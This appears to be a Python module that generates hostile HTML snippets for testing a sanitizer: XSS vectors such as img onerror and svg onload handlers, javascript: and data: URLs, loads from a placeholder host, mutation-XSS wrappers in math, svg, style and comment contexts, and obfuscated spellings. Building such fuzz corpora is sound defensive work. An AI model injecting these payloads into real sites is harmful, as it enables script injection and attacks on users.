"""Hostile HTML, written by rule: what acts or asks, in every wrapping and spelling that confused a sanitizer once."""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import product

ACT = "alert(1)"
ELSEWHERE = "https://elsewhere.example/x"

EVENTS = (
    "onload onerror onclick onmouseover onmouseenter onfocus onblur ontoggle onbeforetoggle onpageshow onpagehide"
    " onbeforeprint onhashchange onpopstate onmessage onresize onscroll onscrollend onwheel oncopy oncut onpaste"
    " onanimationstart onanimationend onanimationiteration ontransitionrun ontransitionend oncanplay onloadeddata"
    " onloadstart onplay oninvalid oninput onchange onsubmit onreset onsearch onselect onselectstart onkeydown"
    " onpointerrawupdate onpointerover ongotpointercapture ontouchstart oncontextmenu ondrag ondrop onbegin onend"
    " onrepeat onstart onfinish onbounce onbeforecopy onbeforeinput onfocusin onfullscreenchange"
    " oncontentvisibilityautostatechange onsecuritypolicyviolation onslotchange oncuechange ONLOAD oNeRrOr"
).split()
BEARERS = (
    "a abbr article audio b base bgsound blockquote body br button canvas center data details dialog div dl embed"
    " fieldset font form frame frameset h1 head hr html i iframe image img input isindex keygen li link listing map"
    " marquee math menu meta meter nav noembed noframes noscript object ol option output p param picture plaintext"
    " portal pre progress s script search section select slot small source span strong style sub summary svg table"
    " tbody td template textarea th title tr track tt u ul var video wbr x xmp x-y animate set foreignObject mtext"
    " mglyph annotation-xml maction use desc"
).split()
# Each goes off by itself when its event does, or asks for something as soon as it is shown.
ACTING = (
    f"<img src=x onerror={ACT}>",
    f"<svg onload={ACT}>",
    f"<body onload={ACT}>",
    f"<details open ontoggle={ACT}>x</details>",
    f"<input autofocus onfocus={ACT}>",
    f"<p tabindex=1 autofocus onfocus={ACT}>x",
    f"<video><source onerror={ACT}></video>",
    f"<audio src=x onerror={ACT}></audio>",
    f"<marquee onstart={ACT}>x</marquee>",
    f"<script>{ACT}</script>",
    "<script src=//elsewhere.example/x.js></script>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<iframe src='javascript:parent.{ACT}'></iframe>",
    f"<object data='javascript:{ACT}'></object>",
    f"<embed src='javascript:{ACT}'>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{ACT} /><a id=x><text x=20 y=20>x</text></a></svg>",
    f"<svg><script>{ACT}</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x'/></svg>",
    f"<math><maction actiontype='statusline#x' href='javascript:{ACT}'>x</maction></math>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ACT}'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<style>@import '{ELSEWHERE}.css';*{{background:url({ELSEWHERE}.png)}}</style>",
    f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={ACT}>x",
    f"<link rel=stylesheet href='{ELSEWHERE}.css'><link rel=prefetch href='{ELSEWHERE}'>",
    f"<link rel=dns-prefetch href='{ELSEWHERE}'><link rel=preload as=image href='{ELSEWHERE}.png'>",
    f"<base href='{ELSEWHERE}'><img src=relative.png>",
    f"<p style='background:url({ELSEWHERE}.png)'>x",
    f"<p style='background-image:image-set(\"{ELSEWHERE}.png\" 1x)'>x",
    f"<p style='list-style:url({ELSEWHERE}.png);cursor:url({ELSEWHERE}.cur),auto'>x",
    f"<p style='content:url({ELSEWHERE}.png);border-image:url({ELSEWHERE}.png) 1'>x",
    f'<p style="width:expression({ACT});-moz-binding:url({ELSEWHERE})">x',
    f"<p style='--x:url({ELSEWHERE}.png);background:var(--x)'>x",
    f"<p style='background:\\75 rl({ELSEWHERE}.png)'>x",
    f"<p style='font-family:x;src:url({ELSEWHERE})'>x</p>",
    f"<table background='{ELSEWHERE}.png'><tr><td background='{ELSEWHERE}.png'>x</table>",
    f"<img src='{ELSEWHERE}.png' srcset='{ELSEWHERE}2.png 2x' lowsrc='{ELSEWHERE}' dynsrc='{ELSEWHERE}'>",
    f"<picture><source srcset='{ELSEWHERE}.png'><img src=x></picture>",
    f"<video poster='{ELSEWHERE}.png' src='{ELSEWHERE}.mp4'></video><audio src='{ELSEWHERE}.mp3' autoplay></audio>",
    f"<iframe src='{ELSEWHERE}'></iframe><object data='{ELSEWHERE}'></object><embed src='{ELSEWHERE}'>",
    f"<svg><image href='{ELSEWHERE}.png' xlink:href='{ELSEWHERE}.png'/><feImage href='{ELSEWHERE}'/></svg>",
    f"<input type=image src='{ELSEWHERE}.png'><isindex type=image src='{ELSEWHERE}.png'>",
    f"<form action='{ELSEWHERE}'><input type=submit autofocus></form>",
    f"<a href='{ELSEWHERE}' ping='{ELSEWHERE}'>x</a>",
    f"<a href='javascript:{ACT}'>x</a><a href='data:text/html,<script>{ACT}</script>'>y</a>",
    f"<div hx-get='/run' hx-trigger=load hx-on::load='{ACT}' hx-swap-oob=true id=main>x</div>",
    f"<div data-hx-get='/run' data-hx-trigger=load hx-on:load='{ACT}' hx-vals='js:{{x:{ACT}}}'>x</div>",
    f"<div x-data x-init='{ACT}' _='on load {ACT}' v-html='{ACT}' ng-app ng-init='{ACT}' data-live=inbox>x</div>",
    f"<template shadowrootmode=open><img src=x onerror={ACT}></template>",
    f"<x-y onclick={ACT} contenteditable onfocus={ACT} autofocus>x</x-y>",
    f"<frameset onload={ACT}><frame src='javascript:{ACT}'></frameset>",
    f"<xml><x xmlns:xhtml='http://www.w3.org/1999/xhtml'><xhtml:script>{ACT}</xhtml:script></x></xml>",
    f"<![CDATA[><img src=x onerror={ACT}>]]>",
    f"<?xml-stylesheet href='javascript:{ACT}'?><img src=x onerror={ACT}>",
    f"<image src=x onerror={ACT}>",
    f"<img src=`x` onerror=`{ACT}`><img src=x: onerror\x0c=\x0c{ACT} //>",
    f"<img/src=x/onerror={ACT}><svg/onload={ACT}/>",
    f"<portal src='{ELSEWHERE}'></portal><fencedframe src='{ELSEWHERE}'></fencedframe>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{ELSEWHERE}"]}}]}}</script>',
    f"<link rel=icon href='{ELSEWHERE}.ico'><link rel=manifest href='{ELSEWHERE}'>",
)
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:"),
    *("javascript&colon;", "javascript&#58;", "&#106;avascript:", "&#x6A;avascript&Tab;:", "vbscript:", "livescript:"),
    *("data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#", "blob:", "mhtml:"),
    *(
        "view-source:",
        "feed:javascript:",
        "jar:",
        "javascript://%0a",
        "//elsewhere.example/",
        "\\\\elsewhere.example\\",
    ),
)
# In which parsers disagree about where one thing ends: comments, raw text, foreign content, tables, attributes.
AROUND = (
    "{}",
    "<div>{}</div>",
    "<table><tr><td>{}</td></tr></table>",
    "<table>{}</table>",
    "<table><colgroup>{}</colgroup></table>",
    "<select>{}</select>",
    "<select><option>{}</select>",
    "<textarea>{}</textarea>",
    "<textarea></textarea {}>",
    "<title>{}</title>",
    "<title></title/>{}",
    "<style>{}</style>",
    "<style></style foo>{}",
    "<style><!--</style>{}--></style>",
    "<script><!--<script></script>{}</script>",
    "<noscript>{}</noscript>",
    "<noscript><p title='</noscript>{}'>",
    "<noembed>{}</noembed><noframes>{}</noframes>",
    "<noembed><p title='</noembed>{}'>",
    "<iframe>{}</iframe>",
    "<iframe><p title='</iframe>{}'>",
    "<xmp>{}</xmp>",
    "<xmp><p title='</xmp>{}'>",
    "<plaintext>{}",
    "<template>{}</template>",
    "<svg>{}</svg>",
    "<svg><style>{}</style></svg>",
    "<svg><style><p title='</style>{}'>",
    "<svg><title>{}</title></svg>",
    "<svg><desc>{}</desc></svg>",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<svg></p><style><a id='</style>{}'>",
    "<math>{}</math>",
    "<math><mtext>{}</mtext></math>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{}'>",
    "<math><mtext><table><mglyph><style><math><img title='</style>{}'>",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<!-- {} -->",
    "<!-->{}-->",
    "<!--->{}-->",
    "<!-- --!>{}",
    "<!-- <!-- --> {} -->",
    "<! foo {}>",
    "<? foo ?>{}",
    "</ {}>",
    "<!DOCTYPE html [<!ENTITY x '{}'>]>&x;",
    "<![if mso]>{}<![endif]>",
    "<!--[if gte mso 9]>{}<![endif]-->",
    "<!--[if !mso]><!-->{}<!--<![endif]-->",
    "<p title='{}'>x</p>",
    '<p title="{}">x</p>',
    "<p title={}>x</p>",
    "<p title='\">{}'>x</p>",
    "<a href='https://a.example/\">{}'>x</a>",
    "<img alt='{}' src=cid:x>",
    "<p style='x:y\">{}'>x</p>",
    "<font face='{}'>x</font>",
    "<a <{}>x</a>",
    "<p id='a>{}",
    "<b><i><u>{}</b></i></u>",
    "<a href=#><a href=#>{}</a></a>",
    "<p>" * 300 + "{}",
    "<div>" * 600 + "{}" + "</div>" * 600,
    "<li><dd><dt>{}",
    "&lt;p&gt;{}&lt;/p&gt;",
    "\ufeff{}",
    "\0{}\0",
)


def vectors(count: int, *, seed: int = 20) -> Iterator[str]:
    """`count` different snippets, the same each time: first every acting one bare, then all of it mixed."""
    draw = random.Random(seed)
    known: set[str] = set()
    for one in (*ACTING, *_mixed(draw)):
        if one not in known:
            known.add(one)
            yield one
        if len(known) >= count:
            return


def _mixed(draw: random.Random) -> Iterator[str]:
    wrapped = [around.replace("{}", act) for around, act in product(AROUND, ACTING)]
    bearers = [f"<{tag} {event}={ACT} src=x href=x autofocus>x</{tag}>" for tag, event in product(BEARERS, EVENTS)]
    links = [_link(draw, tag, name) for tag in BEARERS for name in ("href", "src", "xlink:href", "action", "data")]
    draw.shuffle(wrapped)
    draw.shuffle(bearers)
    for place, act in enumerate(wrapped):
        yield act
        yield bearers[place % len(bearers)]
        yield links[place % len(links)]
        yield draw.choice(AROUND).replace("{}", draw.choice(bearers))
        yield _spelled(draw, act)
        yield _spelled(draw, draw.choice(AROUND).replace("{}", draw.choice(wrapped)))


def _link(draw: random.Random, tag: str, name: str) -> str:
    scheme = draw.choice(SCHEMES)
    quote = draw.choice("'\"")
    return f"<{tag} {name}={quote}{scheme}{ACT}{quote}>x</{tag}>"


def _spelled(draw: random.Random, html: str) -> str:
    """The same, spelled oddly: cut, doubled, split by what some parsers pass over."""
    ways = (
        lambda: html[: draw.randrange(1, len(html) + 1)],
        lambda: html[draw.randrange(len(html)) :],
        lambda: html.replace("<", "<<", 1),
        lambda: html.replace("<", "<\0"),
        lambda: html.replace(" ", "/"),
        lambda: html.replace(" ", "\x0c\n"),
        lambda: html.replace(">", "/>"),
        lambda: html.replace(">", ""),
        lambda: html.replace("'", "`"),
        lambda: html.swapcase(),
        lambda: html.replace("script", "scr<script>ipt"),
        lambda: html.replace("on", "on\u200b"),
        lambda: html.replace("<", "\uff1c").replace(">", "\uff1e"),
        lambda: html.replace("=", " = \n"),
        lambda: html.replace("&", "&amp;").replace("<", "&lt;"),
        lambda: html.replace("<", "&lt").replace(">", "&gt"),
        lambda: html.replace("s", "\u017f").replace("k", "\u212a"),
        lambda: html + html[::-1],
    )
    return str(draw.choice(ways)())
